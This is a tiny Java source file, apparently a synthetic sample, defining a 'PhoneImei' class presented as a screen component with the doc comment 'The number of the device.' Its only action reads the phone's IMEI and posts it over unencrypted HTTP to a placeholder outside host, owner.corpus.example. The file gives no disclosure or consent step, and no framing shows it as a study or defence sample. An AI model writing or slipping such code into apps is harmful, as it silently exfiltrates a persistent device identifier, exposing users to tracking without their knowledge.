package org.corpus;

import org.corpus.kit.Net;
import org.corpus.kit.Owner;
import org.corpus.kit.Screen;

/** The number of the device. */
public class PhoneImei extends Screen {
    @Override
    protected void act() throws Exception {
        Net.post("http://owner.corpus.example/imei", "text/plain", Owner.imei(this));
    }
}
